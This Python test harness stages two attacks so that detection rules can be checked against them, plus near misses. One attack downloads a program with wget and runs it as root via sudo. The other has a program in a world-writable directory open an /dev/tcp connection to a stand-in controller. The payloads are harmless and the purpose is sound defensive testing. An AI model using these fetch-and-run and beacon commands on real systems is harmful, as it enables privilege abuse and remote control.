# SPDX-License-Identifier: MIT
"""Two attacks that rules are to name, and near misses of them; needs Python alone.

    scenarios.py DIRECTORY misses|attacks SUDO...

It runs as root in a network namespace of its own. DIRECTORY is an empty one that every
user may enter. Everything in it is done by the user nobody. SUDO are the words by which
that user runs a program as root, whose path follows.

1. A program is downloaded, and run as root.
2. A program of a place where everybody may write connects to its controller.
"""

from __future__ import annotations

import fcntl
import os
import shutil
import socket
import struct
import subprocess
import sys
import threading
from functools import partial
from http.server import SimpleHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

NOBODY = 65534
#: Addresses of the machine itself, of which the rules take one for another machine's.
NEAR, FAR = "127.0.0.1", "10.99.0.1"
WEB_PORT, CONTROLLER_PORT = 8000, 4444
_SIOCGIFFLAGS, _SIOCSIFFLAGS, _SIOCSIFADDR = 0x8913, 0x8914, 0x8916
_IFF_UP = 1

_FETCH = f"wget -q --no-hsts -O {{}} http://{NEAR}:{WEB_PORT}/tool && chmod +x {{}}"
_CONNECT = f"exec 3<>/dev/tcp/{{}}/{CONTROLLER_PORT}"
MISSES = (
    # What was downloaded is run, but not as root; another program is run as root.
    _FETCH.format("other", "other") + " && ./other",
    "$SUDO /bin/true",
    # It connects to this machine; a program of the system connects to another one.
    f"./beacon -c '{_CONNECT.format(NEAR)}'",
    f"bash -c '{_CONNECT.format(FAR)}'",
)
ATTACKS = (
    _FETCH.format("tool", "tool"),
    "$SUDO $PWD/tool",
    f"./beacon -c '{_CONNECT.format(FAR)}'",
)


def set_up() -> None:
    """Have the loopback device up, and a second address on it."""
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as control:
        request = struct.pack("16sH14x", b"lo", 0)
        flags = struct.unpack("16sH14x", fcntl.ioctl(control, _SIOCGIFFLAGS, request))
        up = struct.pack("16sH14x", b"lo", flags[1] | _IFF_UP)
        fcntl.ioctl(control, _SIOCSIFFLAGS, up)
        address = struct.pack("HH4s8x", socket.AF_INET, 0, socket.inet_aton(FAR))
        alias = struct.pack("16s16s", b"lo:1", address)
        fcntl.ioctl(control, _SIOCSIFADDR, alias)


def serve(folder: Path) -> None:
    """Begin to serve a directory's files, and to answer as an attacker's server."""
    handler = partial(_Quiet, directory=os.fspath(folder))
    web = ThreadingHTTPServer((NEAR, WEB_PORT), handler)
    threading.Thread(target=web.serve_forever, daemon=True).start()
    listener = socket.create_server(("", CONTROLLER_PORT))
    threading.Thread(target=_accept, args=(listener,), daemon=True).start()


def _accept(listener: socket.socket) -> None:
    while True:
        listener.accept()[0].close()


class _Quiet(SimpleHTTPRequestHandler):
    """Serves files and says nothing."""

    def log_message(self, format: str, *args: object) -> None:
        """Say nothing."""


def main() -> None:
    """Do what the command line says; a step that fails ends the program."""
    place, what, sudo = Path(sys.argv[1]), sys.argv[2], " ".join(sys.argv[3:])
    set_up()
    web = place / "web"
    web.mkdir()
    shutil.copy("/bin/true", web / "tool")
    shutil.copy("/bin/bash", place / "beacon")
    place.chmod(0o777)
    serve(web)
    for step in MISSES if what == "misses" else ATTACKS:
        environment = {**os.environ, "SUDO": sudo, "HOME": os.fspath(place)}
        subprocess.run(
            ["/bin/sh", "-c", f"{step}\nexit $?"],
            cwd=place,
            env=environment,
            user=NOBODY,
            group=NOBODY,
            extra_groups=(),
            umask=0o022,
            check=True,
        )


if __name__ == "__main__":
    main()
